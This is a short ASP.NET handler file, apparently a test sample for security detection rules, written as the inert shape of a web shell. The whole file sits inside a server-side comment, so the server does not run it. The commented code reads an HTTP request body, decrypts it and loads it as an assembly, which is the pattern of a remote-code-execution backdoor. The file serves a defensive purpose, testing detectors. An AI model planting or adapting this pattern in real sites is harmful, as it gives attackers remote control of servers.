<%-- exir test sample: inert text in the shape of a web shell, written for rule tests. The server-side comment around it keeps ASP.NET from running any of it.
<%@ WebHandler Language="C#" Class="Handler" %>
public class Handler : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) {
  byte[] data = c.Request.BinaryRead(c.Request.ContentLength);
  System.Reflection.Assembly.Load(Decrypt(data)).CreateInstance("P"); }
  public bool IsReusable { get { return false; } } }
--%>
